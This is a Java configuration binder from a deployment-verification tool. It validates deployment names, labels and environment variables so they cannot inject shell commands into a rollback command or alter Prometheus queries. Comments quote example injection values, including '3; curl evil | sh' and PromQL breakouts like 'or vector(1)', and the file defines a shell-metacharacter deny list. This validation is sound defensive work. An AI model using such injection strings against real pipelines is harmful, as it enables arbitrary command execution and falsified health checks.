package dev.vigil.config;

import dev.vigil.Deployment;
import dev.vigil.RecheckPlan;
import dev.vigil.RollbackPolicy;
import dev.vigil.RollbackTrigger;
import dev.vigil.VerificationPlan;
import dev.vigil.WatchPlan;
import dev.vigil.history.HistorySettings;
import dev.vigil.rollback.RollbackTriggers;
import dev.vigil.spi.RollbackTriggerFactory;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.Set;

/**
 * Binds the sections other than the probes into their values: {@code vigil.deployment.*} into
 * {@link DeploymentDefaults}, {@code vigil.plan.*} into a {@link VerificationPlan},
 * {@code vigil.rollback.*} into a {@link RollbackPolicy}, a {@link RecheckPlan} and the one
 * {@link RollbackTrigger}, {@code vigil.history.*} into {@link HistorySettings}. What is not set
 * takes the defaults of those classes; a value out of range is a problem and the default is used.
 */
final class SectionBinder {

    /** The deployment's key naming the version a rollback returns to. */
    private static final String PREVIOUS_VERSION = "previous-version";

    private static final org.slf4j.Logger LOG = org.slf4j.LoggerFactory.getLogger(SectionBinder.class);

    private final Items items;
    private final Secrets secrets;
    private final Map<String, RollbackTriggerFactory> triggerFactories;

    SectionBinder(Items items, Secrets secrets, Map<String, RollbackTriggerFactory> triggerFactories) {
        this.items = items;
        this.secrets = secrets;
        this.triggerFactories = triggerFactories;
    }

    private Settings settings(String section) {
        return new Settings(items, secrets, section, null, null);
    }

    DeploymentDefaults deployment() {
        Settings s = settings(CoreKeys.DEPLOYMENT);
        Deployment.Kind kind = s.string("kind").map(k -> s.enumValue("kind", k, Deployment.Kind.class))
                .orElse(Deployment.Kind.RELEASE);
        List<String> fixes = s.issueIds("fixes", "the deployment fixes nothing");
        fixes.forEach(issue -> shellCharacters(s, "fixes", issue));
        Map<String, String> labels = s.map("labels");
        labels.forEach(this::oneLineLabel);
        return new DeploymentDefaults(name(s, "service"), name(s, "version"),
                name(s, PREVIOUS_VERSION), name(s, "environment"),
                kind == null ? Deployment.Kind.RELEASE : kind, fixes, labels);
    }

    /**
     * A label whose key or value holds a control character: a problem naming the label and the
     * character's code, never the value, which may be a CI job's token. The deployment would refuse
     * it anyway ({@link Deployment}): a line break in {@code --label ticket=...} printed a line of its
     * own ({@code Verdict: HEALTHY}) in the console, the markdown report and the logs.
     */
    private void oneLineLabel(String label, String value) {
        String where = label.codePoints().anyMatch(Character::isISOControl) ? "key" : "value";
        String text = where.equals("key") ? label : value;
        text.codePoints().filter(Character::isISOControl).findFirst().ifPresent(c -> items.problem(
                items.prefix() + "." + CoreKeys.DEPLOYMENT + ".labels." + (label.contains(".") ? "[" + label + "]" : label),
                String.format("the label's %s holds a control character (U+%04X at index %d), which would show as another"
                        + " line or text in the console, the reports and the logs; give the label one line", where, c, text.indexOf(c))));
    }

    /**
     * A name of the deployment ({@code service}, {@code version}, ...), or {@code null}. Spaces or
     * tabs around it are a problem, not trimmed: an invisible tab after {@code previous-version=1.9.0}
     * reached the rollback command's {@code VIGIL_PREVIOUS_VERSION} and every
     * {@code ${vigil.deployment.previous-version}} as part of the version, and the history as
     * another service. So is a control character or a character a shell reads
     * ({@link #SHELL_CHARACTERS}), which a placeholder would put into a rollback command's shell.
     */
    private static String name(Settings s, String rel) {
        String value = s.string(rel).orElse(null);
        if (value != null && !value.equals(value.strip())) {
            s.problem(rel, "'" + escaped(value)
                    + "' has spaces or tabs around it, which would be part of the name: in the rollback command's"
                    + " environment and placeholders, the reports and the history; remove them");
        } else if (value != null) {
            shellCharacters(s, rel, value);
        }
        return value;
    }

    /**
     * A label placed into a command by a placeholder ({@code ${vigil.deployment.labels.ticket}} in
     * the rollback command or a command probe's {@code command}) whose value holds a control
     * character or a character a shell reads: a problem of the command's key naming the label.
     * Labels are free text elsewhere (a URL with {@code &}, a title with {@code (}), so they are
     * refused only where a shell would read them: {@code --label ticket='INC-1;curl ...'} ran
     * {@code curl} in the rollback. The same for a Prometheus query ({@code query}, {@code canary-query}
     * and the other {@code *-query} keys) with what ends a quoted PromQL value: {@code "} in
     * {@code team="${vigil.deployment.labels.team}"} would change what the query selects, silently.
     * And any deployment's value placed into a query outside its quoted values must be a plain word
     * ({@link #UNQUOTED_CHARACTERS}): {@code > ${vigil.deployment.labels.threshold}} with
     * {@code 0 or vector(0)} would change what the query computes. An environment variable placed
     * into a query ({@code ${SERVICE}}, {@code ${THRESHOLD}}) is held to the rule of a label: with
     * {@code SERVICE='x"} or vector(1) #'} the query would always answer. So is one placed into a
     * command's text: {@code helm rollback app ${REVISION}} with {@code REVISION='3; curl evil | sh'}
     * ran {@code curl}; the message points to {@code "$REVISION"}, which the shell reads as one word.
     */
    void valuesInCommandsAndQueries() {
        for (Item item : items.all()) {
            boolean command = CoreKeys.COMMAND.equals(item.key().name());
            if (!command && !promqlQuery(item.key())) {
                continue;
            }
            List<int[]> quoted = command || item.raw() == null ? List.of() : spans(QUOTED, item.raw());
            firstPlaced(item, placed -> {
                Key ref = placed.ref();
                if (ref != null && (!"labels".equals(ref.name()) || ref.sub() == null)) {
                    return command ? null : unquoted(item.raw(), placed, quoted);
                }
                java.util.OptionalInt c = command ? firstShellCharacter(placed.value())
                        : placed.value().codePoints().filter(ch -> Character.isISOControl(ch) || QUERY_CHARACTERS.indexOf(ch) >= 0).findFirst();
                if (c.isEmpty()) {
                    return command ? null : unquoted(item.raw(), placed, quoted);
                }
                String placing = "its " + placed.placeholder() + " placeholder would put " + placed.shown();
                return command
                        ? placing + " into the command, which /bin/sh -c runs, and " + described(c.getAsInt())
                                + " would run or redirect what follows it: " + (ref == null
                                        ? "let the shell read the variable instead, \"$" + placed.opening().substring(2).trim()
                                                + "\" in double quotes in place of " + placed.placeholder() + " (one word, none of it run),"
                                                + " or give it"
                                        : "leave the label out of the command, or give it")
                                + " a value without control characters or " + SHELL_CHARACTERS
                        : placing + " into the PromQL query, where " + described(c.getAsInt()) + " would end or escape a"
                                + " quoted value and change what the query selects: leave " + placed.what() + " out of the"
                                + " query, or give it a value without control characters or " + QUERY_CHARACTERS;
            });
        }
    }

    /**
     * A deployment's value placed into a regex matcher of a Prometheus query ({@code =~"..."} or
     * {@code !~"..."}) that holds a regex operator: a problem of the query's key naming the value.
     * {@code version=~"${vigil.deployment.version}"} with {@code 1.0.0+build} (SemVer build metadata)
     * matches no series, and {@code or vector(0)} reads that as 0, a pass. A {@code .} or {@code -},
     * which every version holds, is left: it matches itself too.
     */
    void valuesInRegexMatchers() {
        for (Item item : items.all()) {
            if (!promqlQuery(item.key()) || item.raw() == null) {
                continue;
            }
            List<int[]> matchers = spans(REGEX_MATCHER, item.raw());
            firstPlaced(item, placed -> {
                java.util.OptionalInt c = placed.value().codePoints().filter(ch -> REGEX_OPERATORS.indexOf(ch) >= 0).findFirst();
                if (c.isEmpty() || !placedAt(item.raw(), placed.opening(), matchers, true)) {
                    return null;
                }
                return "its " + placed.placeholder() + " placeholder would put " + placed.shown() + " into a regex"
                        + " matcher (=~ or !~), where " + described(c.getAsInt()) + " is an operator: the matcher would"
                        + " not select that value (and 'or vector(0)' would read what it misses as 0, a pass); use = or !="
                        + " for one value";
            });
        }
    }

    /**
     * The problem of a deployment's value that a placeholder puts into a query outside any quoted
     * value when it holds more than {@link #UNQUOTED_CHARACTERS}, or {@code null}. There it is
     * PromQL itself: {@code > ${vigil.deployment.labels.threshold}}, {@code [${...window}]} or
     * {@code by (${...by})} with {@code 0 or vector(0)} would change what the query computes, and
     * could make a failing service pass. A number ({@code 0.05}), a duration ({@code 5m}) or a name
     * is all such a placeholder is for.
     */
    private static String unquoted(String raw, Placed placed, List<int[]> quoted) {
        java.util.OptionalInt c = placed.value().codePoints().filter(ch -> !unquotedCharacter(ch)).findFirst();
        if (c.isEmpty() || raw == null || !placedAt(raw, placed.opening(), quoted, false)) {
            return null;
        }
        return "its " + placed.placeholder() + " placeholder would put " + placed.shown() + " into the PromQL"
                + " query outside any quoted value, where " + described(c.getAsInt()) + " would let it change what the"
                + " query computes: give it a value of " + UNQUOTED_CHARACTERS + " only (a number such as 0.05, a"
                + " duration such as 5m, a name), or place it inside a quoted label value";
    }

    private static boolean unquotedCharacter(int c) {
        return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_' || c == '.' || c == ':'
                || c == '-';
    }

    /** Where {@code pattern}'s group 1 is found in {@code raw}: start and end of each. */
    private static List<int[]> spans(java.util.regex.Pattern pattern, String raw) {
        List<int[]> spans = new java.util.ArrayList<>();
        java.util.regex.Matcher m = pattern.matcher(raw);
        while (m.find()) {
            spans.add(new int[] {m.start(1), m.end(1)});
        }
        return spans;
    }

    /** Whether the key holds a PromQL query: {@code query}, or a name ending in {@code -query} ({@code canary-query}, ...). */
    private static boolean promqlQuery(Key key) {
        return key.name() != null && (key.name().equals("query") || key.name().endsWith("-query"));
    }

    /**
     * A value that a placeholder puts into a key: the deployment's key it names ({@code null} for an
     * environment variable), its text as written up to the end of the name
     * (<code>${vigil.deployment.version</code>, which a default or the closing brace follows), the
     * value it puts, and whether that value is a secret (a variable whose name says credential).
     */
    private record Placed(Key ref, String opening, String value, boolean secret) {

        /** The placeholder as a message names it: {@code ${vigil.deployment.version}}. */
        String placeholder() {
            return opening + "}";
        }

        /** The value as a message shows it: quoted and escaped, or not at all when it is a secret. */
        String shown() {
            return secret ? "the value of " + opening.substring(2) + " (not shown: the name says it is a secret)"
                    : "'" + escaped(value) + "'";
        }

        /** What gives the value, for a message's advice: the label or the environment variable. */
        String what() {
            return ref == null ? "the environment variable" : "the label";
        }
    }

    /**
     * Makes the first problem {@code check} finds with a deployment's value, or an environment
     * variable's, placed into the item's key a problem of that key: one per key and check, so that a
     * value made of another names the first found. {@code check} answers a message, or {@code null}
     * for a value that is fine there. Nothing for a key without placeholders. An environment variable
     * counts when the key's own text names it ({@code ${SERVICE}}); a blank one is left, since the
     * default stands in for it.
     */
    private void firstPlaced(Item item, java.util.function.Function<Placed, String> check) {
        Placeholders.Resolved resolved = items.placeholders().resolved(item.key());
        if (resolved == null) {
            return;
        }
        for (Key ref : resolved.keyRefs()) {
            if (!CoreKeys.DEPLOYMENT.equals(ref.section())) {
                continue;
            }
            Placeholders.Resolved placed = items.placeholders().resolved(ref);
            String value = placed != null ? placed.value() : items.valueOf(ref).orElse("");
            if (problem(item, check, new Placed(ref, "${" + items.prefix() + "." + ref.text(), value, false))) {
                return;
            }
        }
        java.util.regex.Matcher m = PLACEHOLDER_NAME.matcher(item.raw() == null ? "" : item.raw());
        Set<String> names = new LinkedHashSet<>();
        while (m.find()) {
            names.add(m.group(1));
        }
        for (String name : names) {
            String value = items.placeholders().fromEnvironment(name.trim());
            if (value != null && !value.isBlank()
                    && problem(item, check, new Placed(null, "${" + name, value, Keys.secretName(name.trim())))) {
                return;
            }
        }
    }

    /** Whether {@code check} finds a problem with the value placed: then a problem of the item's key. */
    private boolean problem(Item item, java.util.function.Function<Placed, String> check, Placed placed) {
        String message = check.apply(placed);
        if (message != null) {
            items.problem(item.key(), message);
        }
        return message != null;
    }

    /** A placeholder's name as written, up to its default or closing brace: group 1. */
    private static final java.util.regex.Pattern PLACEHOLDER_NAME = java.util.regex.Pattern.compile("\\$\\{([^${}:]+)");

    /**
     * Whether {@code placeholder} (written up to the end of its name) occurs in {@code raw} within
     * one of the {@code spans} ({@code within}), or outside all of them (not {@code within}). An
     * occurrence is one whose name ends there: <code>${vigil.deployment.labels.by</code> is not found
     * in <code>${vigil.deployment.labels.byte}</code>.
     */
    private static boolean placedAt(String raw, String placeholder, List<int[]> spans, boolean within) {
        for (int at = raw.indexOf(placeholder); at >= 0; at = raw.indexOf(placeholder, at + 1)) {
            int after = at + placeholder.length();
            if (after < raw.length() && raw.charAt(after) != '}' && raw.charAt(after) != ':') {
                continue;
            }
            int here = at;
            if (spans.stream().anyMatch(span -> here > span[0] && here < span[1]) == within) {
                return true;
            }
        }
        return false;
    }

    /** The first control character or character of {@link #SHELL_CHARACTERS} in the value, if any. */
    private static java.util.OptionalInt firstShellCharacter(String value) {
        return value.codePoints().filter(SectionBinder::shellCharacter).findFirst();
    }

    private static boolean shellCharacter(int c) {
        return Character.isISOControl(c) || SHELL_CHARACTERS.indexOf(c) >= 0;
    }

    private static String described(int c) {
        return c == ' ' ? "a space" : Character.isISOControl(c) ? String.format("a control character (U+%04X)", c) : "'" + Character.toString(c) + "'";
    }

    /**
     * A problem of the key when the value holds a control character, one of {@link #SHELL_CHARACTERS}
     * or a space: the shell splits a word at a space, so {@code --previous-version '2.4.0 --all'} made
     * {@code kubectl set image ...:${vigil.deployment.previous-version}} set the image of every deployment.
     */
    private static void shellCharacters(Settings s, String rel, String value) {
        value.codePoints().filter(c -> c == ' ' || shellCharacter(c)).findFirst().ifPresent(c -> s.problem(rel,
                "'" + escaped(value) + "' holds " + (c == ' ' ? "a space" : described(c)) + ", which no name holds and a shell reads: a ${vigil.deployment." + rel + "} placeholder in a"
                + " rollback command or a command probe (run by /bin/sh -c) would "
                + (c == ' ' ? "end the word there and pass what follows it as another argument"
                        : "run what follows it") + ", and"
                + " the console and reports would show another text; check where the value comes from"));
    }

    /**
     * What a shell reads in an unquoted word to run, substitute or redirect something, or to end the
     * command: a deployment name holding one, placed into a command by a placeholder (a branch name
     * as the version, {@code 1.0;curl ...}), runs it.
     */
    private static final String SHELL_CHARACTERS = ";&|$`<>()'\"\\";

    /** A quoted PromQL value, in double, single or back quotes: group 1. */
    private static final String QUOTED_VALUE = "(\"(?:[^\"\\\\]|\\\\.)*\"|'(?:[^'\\\\]|\\\\.)*'|`[^`]*`)";

    /** Every quoted value of a PromQL query: group 1. */
    private static final java.util.regex.Pattern QUOTED = java.util.regex.Pattern.compile(QUOTED_VALUE);

    /** A PromQL regex matcher's value, quoted ({@code =~"..."}, {@code !~`...`}): group 1. */
    private static final java.util.regex.Pattern REGEX_MATCHER = java.util.regex.Pattern.compile("[=!]~\\s*" + QUOTED_VALUE);

    /** What a deployment's value placed into a query outside its quoted values may hold (see {@link #unquoted}). */
    private static final String UNQUOTED_CHARACTERS = "letters, digits and _ . : -";

    /** What a regex reads as an operator in a version or a name (not {@code .} and {@code -}: see {@link #valuesInRegexMatchers}). */
    private static final String REGEX_OPERATORS = "+*?()[]{}|^$\\";

    /** What ends or escapes a quoted value in PromQL (double, single and back quotes, and the backslash). */
    private static final String QUERY_CHARACTERS = "\"'`\\";

    private static String escaped(String value) {
        StringBuilder out = new StringBuilder();
        value.codePoints().forEach(c -> out.append(c == '\t' ? "\\t" : c == '\r' ? "\\r" : c == '\n' ? "\\n"
                : Character.isISOControl(c) ? String.format("\\u%04X", c) : Character.toString(c)));
        return out.toString();
    }

    VerificationPlan plan() {
        Settings s = settings(CoreKeys.PLAN);
        Duration initialDelay = s.coarseDuration("initial-delay", "s",
                "would leave the service %s to warm up before it is measured")
                .filter(d -> s.atLeastZero("initial-delay", d))
                .orElse(VerificationPlan.DEFAULT_INITIAL_DELAY);
        Optional<Duration> intervalSet = s.coarseDuration("interval", "s",
                "would start a round every %s and leave each probe at most that long to answer")
                .filter(d -> s.positive("interval", d));
        Optional<Duration> durationSet = s.coarseDuration("duration", "m",
                "would end the bake after %s: a verdict on a single round, HEALTHY on one instant")
                .filter(d -> s.positive("duration", d));
        Duration interval = intervalSet.orElse(VerificationPlan.DEFAULT_INTERVAL);
        Duration duration = durationSet.orElse(VerificationPlan.DEFAULT_DURATION);
        VerificationPlan.OnInconclusive onInconclusive = s.string("on-inconclusive")
                .map(v -> s.enumValue("on-inconclusive", v, VerificationPlan.OnInconclusive.class))
                .orElse(VerificationPlan.OnInconclusive.FAIL);
        boolean dryRun = s.bool("dry-run").orElse(false);
        measuresOnce(s, "interval", intervalSet, interval, "duration", durationSet, duration,
                "the bake would measure once, at its start, and judge the deployment on that one round");
        VerificationPlan plan = new VerificationPlan(initialDelay, interval, duration,
                onInconclusive == null ? VerificationPlan.OnInconclusive.FAIL : onInconclusive, dryRun);
        if (plan.rounds() > VerificationPlan.MAX_ROUNDS) {
            s.problem("interval", Values.format(interval) + " over " + items.prefix() + "." + CoreKeys.PLAN + ".duration ("
                    + Values.format(duration) + ") makes " + (plan.rounds() == Integer.MAX_VALUE ? "2147483647 or more" : plan.rounds())
                    + " rounds, more than the " + VerificationPlan.MAX_ROUNDS + " a bake may have; raise the interval or shorten the duration");
        }
        return plan;
    }

    /**
     * The watch after the bake, {@code vigil.plan.watch*}; the probes left out and the watch's
     * {@code max-failures} are the probe binder's (their {@code watch=false}, {@code watch-max-failures}).
     */
    WatchPlan watch(VerificationPlan plan, Set<String> unwatched, Map<String, Integer> watchMaxFailures) {
        Settings s = settings(CoreKeys.PLAN);
        Optional<Duration> durationSet = s.coarseDuration("watch", "h", "would end the watch after %s, before it saw anything")
                .filter(d -> s.atLeastZero("watch", d));
        Optional<Duration> intervalSet = s.coarseDuration("watch-interval", "s",
                "would start a round of the watch every %s and leave each probe at most that long to answer")
                .filter(d -> s.positive("watch-interval", d));
        Duration duration = durationSet.orElse(Duration.ZERO);
        Duration interval = intervalSet.orElse(WatchPlan.DEFAULT_INTERVAL);
        if (!duration.isZero()) {
            measuresOnce(s, "watch-interval", intervalSet, interval, "watch", durationSet, duration,
                    "the watch would measure once, one interval after the bake, and watch longer than asked");
        }
        WatchPlan.Action action = s.string("watch-action").map(v -> s.enumValue("watch-action", v, WatchPlan.Action.class))
                .orElse(WatchPlan.Action.ROLLBACK);
        Duration window = s.coarseDuration("watch-failure-window", "m",
                "would count the FAILs of a probe within %s, less than a round of the watch")
                .filter(d -> !duration.isZero() && validWindow(s, d, interval, duration,
                        s.string("watch-interval").isPresent() && intervalSet.isEmpty()))
                .orElse(Duration.ZERO);
        if (s.string("watch").isEmpty() && !s.unresolved("watch")) {
            noEffectWithoutWatch(s, s, "watch-interval");
            noEffectWithoutWatch(s, s, "watch-action");
            noEffectWithoutWatch(s, s, "watch-failure-window");
            watchMaxFailures.keySet().forEach(probe -> noEffectWithoutWatch(s, new Settings(items, secrets, CoreKeys.PROBES,
                    probe, CoreKeys.byName(CoreKeys.PROBE_KEYS, List.of())), "watch-max-failures"));
        }
        if (duration.isZero()) {
            return WatchPlan.off().withUnwatched(unwatched);
        }
        return new WatchPlan(duration, interval, action == null ? WatchPlan.Action.ROLLBACK : action, unwatched, window,
                watchMaxFailures);
    }

    /**
     * Whether a failure window fits the watch ({@link WatchPlan#windowProblem}); if not, that is a
     * problem of its key. {@code 0s} is refused too: it would read as "no FAIL counts", while leaving
     * the key out is what counts over the whole watch. Not compared with an interval whose own value
     * is a problem: the default standing in for it would only add a second, misleading message.
     */
    private static boolean validWindow(Settings s, Duration window, Duration interval, Duration duration, boolean intervalBad) {
        if (window.isZero() || window.isNegative()) {
            s.problem("watch-failure-window", "must be longer than zero; leave it out to count FAILs over the whole watch");
            return false;
        }
        if (intervalBad) {
            return false;
        }
        Optional<String> problem = WatchPlan.windowProblem(window, interval, duration);
        problem.ifPresent(p -> s.problem("watch-failure-window", p));
        return problem.isEmpty();
    }

    /**
     * A key of the watch given without {@code vigil.plan.watch} changes nothing: a warning naming it
     * and where it came from. Not a problem: a configuration shared by a pipeline that only bakes and
     * a job that sets the watch in its environment ({@code VIGIL_PLAN_WATCH=24h}) stays valid for both.
     */
    private void noEffectWithoutWatch(Settings plan, Settings s, String rel) {
        if (s.string(rel).isPresent()) {
            String watch = plan.fullKey("watch");
            LOG.warn("{} has no effect without {}: no watch runs after the bake; set {} (how long to watch after"
                    + " the bake, e.g. 24h), or leave {} out", s.named(rel), watch, watch, s.fullKey(rel));
        }
    }

    /**
     * An interval longer than the time its rounds fill measures once: a problem of the interval's
     * key naming both values. Not when either key's value is a problem already: the default standing
     * in for it would only add a second, misleading message.
     */
    private void measuresOnce(Settings s, String intervalKey, Optional<Duration> intervalSet, Duration interval,
            String durationKey, Optional<Duration> durationSet, Duration duration, String consequence) {
        boolean intervalGiven = s.string(intervalKey).isPresent();
        if (interval.compareTo(duration) <= 0 || intervalGiven && intervalSet.isEmpty()
                || s.string(durationKey).isPresent() && durationSet.isEmpty()) {
            return;
        }
        s.problem(intervalKey, Values.format(interval) + (intervalGiven ? "" : " (the default)") + " is longer than "
                + items.prefix() + "." + CoreKeys.PLAN + "." + durationKey + " (" + Values.format(duration) + "): "
                + consequence + "; lower the interval or raise the duration");
    }

    HistorySettings history() {
        Settings s = settings(CoreKeys.HISTORY);
        boolean enabled = s.bool("enabled").orElse(true);
        String url = s.string("url").map(String::trim).orElse(null);
        if (url != null && !url.startsWith("jdbc:")) {
            s.problem("url", "not a JDBC URL; use jdbc:h2:file:/path/history or jdbc:postgresql://host:5432/db");
        } else if (url != null && !url.startsWith("jdbc:h2:") && !url.startsWith("jdbc:postgresql:")) {
            // vigil-history opens nothing else: left to it, every verification would warn that it was not recorded.
            s.problem("url", "unsupported database; use jdbc:h2:file:/path/history (embedded) or jdbc:postgresql://host:5432/db");
        } else if (url != null && !dev.vigil.spi.UrlCredentials.userInfo(url).isEmpty()) {
            // Refused when the history opens too (neither driver reads it): said here, validate says it before a pipeline runs.
            s.problem("url", "holds a user or password (user:password@), which neither database driver reads; set"
                    + " vigil.history.username and vigil.history.password (from the environment: VIGIL_HISTORY_PASSWORD)"
                    + " instead, so that the password stays secret");
        }
        Duration retention = s.coarseDuration("retention", "d",
                "would delete each record of the history %s after the verification it records")
                .filter(d -> s.positive("retention", d) && atLeastADay(s, d))
                .orElse(HistorySettings.DEFAULT_RETENTION);
        Duration window = s.coarseDuration("hotfix-window", "d",
                "would count no deployment followed by a hotfix as a failed change")
                .filter(d -> s.atLeastZero("hotfix-window", d))
                .orElse(HistorySettings.DEFAULT_HOTFIX_WINDOW);
        return new HistorySettings(enabled, url, s.string("username").orElse(null), s.string("password").orElse(null),
                retention, window);
    }

    /**
     * Whether a history retention is a day or longer: a shorter one is almost always a unit
     * mistaken ({@code 30m} meant as months is 30 minutes), and it deletes from a history that
     * other pipelines share every record older than itself at the next verification.
     */
    private static boolean atLeastADay(Settings s, Duration retention) {
        if (retention.compareTo(Duration.ofDays(1)) >= 0) {
            return true;
        }
        s.problem("retention", Values.format(retention) + " would delete every record of the history older than "
                + Values.format(retention) + " at the next verification, in every pipeline that shares it; a retention"
                + " is at least a day: write it in days (30d, 365d)");
        return false;
    }

    /** {@code vigil.regressions.require-past-confirmations}: default {@code false}, a warning. */
    boolean requirePastConfirmations() {
        return settings(CoreKeys.REGRESSIONS).bool("require-past-confirmations").orElse(false);
    }

    RecheckPlan recheck() {
        Settings s = new Settings(items, secrets, CoreKeys.ROLLBACK, CoreKeys.RECHECK, CoreKeys.byName(CoreKeys.RECHECK_KEYS, List.of()));
        RecheckPlan recheck = RecheckPlan.defaults();
        Optional<Duration> delay = s.coarseDuration("delay", "s",
                "would measure the previous version %s after the rollback, before it is back")
                .filter(d -> s.atLeastZero("delay", d));
        if (delay.isPresent()) {
            recheck = recheck.withDelay(delay.get());
        }
        return recheck.withRounds(s.integer("rounds").filter(n -> s.atLeast("rounds", n, 0)).orElse(RecheckPlan.DEFAULT_ROUNDS));
    }

    RollbackPolicy rollbackPolicy() {
        Settings s = settings(CoreKeys.ROLLBACK);
        int attempts = s.integer("max-attempts").filter(n -> s.atLeast("max-attempts", n, 1))
                .orElse(RollbackPolicy.DEFAULT_MAX_ATTEMPTS);
        Duration backoff = s.duration("backoff").filter(d -> s.atLeastZero("backoff", d)).orElse(RollbackPolicy.DEFAULT_BACKOFF);
        Duration timeout = s.coarseDuration("timeout", "s",
                "would stop each rollback attempt after %s, before it could finish")
                .filter(d -> s.positive("timeout", d)).orElse(RollbackPolicy.DEFAULT_TIMEOUT);
        Duration signalGrace = s.duration("signal-grace").filter(d -> s.atLeastZero("signal-grace", d))
                .orElse(RollbackPolicy.DEFAULT_SIGNAL_GRACE);
        return new RollbackPolicy(attempts, backoff, timeout, signalGrace);
    }

    /**
     * The one trigger configured: {@code vigil.rollback.command} or a factory's sub-section
     * ({@code vigil.rollback.webhook.*}), with the policy's timeout. Every one given is bound, so
     * that all their problems are reported, and more than one is a problem too.
     */
    RollbackTrigger rollbackTrigger(RollbackPolicy policy) {
        Settings s = settings(CoreKeys.ROLLBACK);
        Map<String, RollbackTrigger> given = new LinkedHashMap<>();
        Set<Integer> retryOnExitCodes = retryOnExitCodes(s);
        // A command whose placeholder has no value is set: its own problem says what is wrong.
        if (s.string(CoreKeys.RETRY_ON_EXIT_CODES).isPresent() && s.string(CoreKeys.COMMAND).isEmpty()
                && !s.unresolved(CoreKeys.COMMAND)) {
            s.problem(CoreKeys.RETRY_ON_EXIT_CODES, "applies to " + s.fullKey(CoreKeys.COMMAND)
                    + " only, which is not set; other triggers say themselves what may be retried");
        }
        s.string(CoreKeys.COMMAND).ifPresent(command -> given.put(s.fullKey(CoreKeys.COMMAND),
                PlacedPreviousVersion.guard(RollbackTriggers.shell(command, policy.timeout(), retryOnExitCodes),
                        "${" + items.prefix() + "." + CoreKeys.DEPLOYMENT + "." + PREVIOUS_VERSION + "}", previousVersionPlaced())));
        for (String name : triggerNames()) {
            RollbackTriggerFactory factory = triggerFactories.get(name);
            Settings settings = new Settings(items, secrets, CoreKeys.ROLLBACK, name, CoreKeys.byName(factory.keys(), List.of()));
            settings.timeout(policy.timeout());
            Key key = new Key(CoreKeys.ROLLBACK, name, null, null, null);
            given.put(items.prefix() + "." + key.text() + ".*", items.make(key, "rollback trigger " + name, () -> factory.create(settings)));
        }
        if (given.size() > 1) {
            items.problem(new Key(CoreKeys.ROLLBACK, null, null, null, null), items.prefix() + "." + CoreKeys.ROLLBACK,
                    "one rollback trigger per deployment, but " + String.join(" and ", given.keySet()) + " are set; keep one");
        }
        RollbackTrigger trigger = given.values().stream().filter(Objects::nonNull).findFirst().orElse(null);
        List<String> values = secrets.values();
        return trigger == null || values.isEmpty() ? trigger : new RedactingTrigger(trigger, values);
    }

    /**
     * The value a {@code ${vigil.deployment.previous-version}} placeholder put into the rollback
     * command, or {@code null} when the command has none.
     */
    private String previousVersionPlaced() {
        Placeholders.Resolved command = items.placeholders().resolved(Key.of(CoreKeys.ROLLBACK, CoreKeys.COMMAND));
        if (command == null) {
            return null;
        }
        return command.keyRefs().stream()
                .filter(ref -> CoreKeys.DEPLOYMENT.equals(ref.section()) && PREVIOUS_VERSION.equals(ref.name()) && ref.sub() == null)
                .findFirst()
                .map(ref -> {
                    Placeholders.Resolved value = items.placeholders().resolved(ref);
                    return value != null ? value.value() : items.valueOf(ref).orElse(null);
                })
                .orElse(null);
    }

    /** {@code vigil.rollback.retry-on-exit-codes}: exit codes from 1 to 255, or {@code none}. */
    private static Set<Integer> retryOnExitCodes(Settings s) {
        List<String> given = s.list(CoreKeys.RETRY_ON_EXIT_CODES);
        if (given.isEmpty()) {
            return RollbackTriggers.DEFAULT_RETRY_ON_EXIT_CODES;
        }
        if (given.size() == 1 && given.get(0).equalsIgnoreCase("none")) {
            return Set.of();
        }
        Set<Integer> codes = new LinkedHashSet<>();
        for (String text : given) {
            Optional<Integer> code = Values.integer(text).filter(c -> c >= 1 && c <= 255);
            if (code.isEmpty()) {
                s.problem(CoreKeys.RETRY_ON_EXIT_CODES, "'" + text + "' is not an exit code from 1 to 255; give a list such as "
                        + RollbackTriggers.EX_TEMPFAIL + " or 75,69, or none to never run the command again");
                return RollbackTriggers.DEFAULT_RETRY_ON_EXIT_CODES;
            }
            codes.add(code.get());
        }
        return codes;
    }

    /** The sub-sections of {@code vigil.rollback} that name a known trigger, in the order given; {@link KeyCheck} reports the others. */
    private List<String> triggerNames() {
        return items.all().stream().map(Item::key)
                .filter(k -> k.section().equals(CoreKeys.ROLLBACK) && k.group() != null && triggerFactories.containsKey(k.group()))
                .map(Key::group).distinct().toList();
    }
}
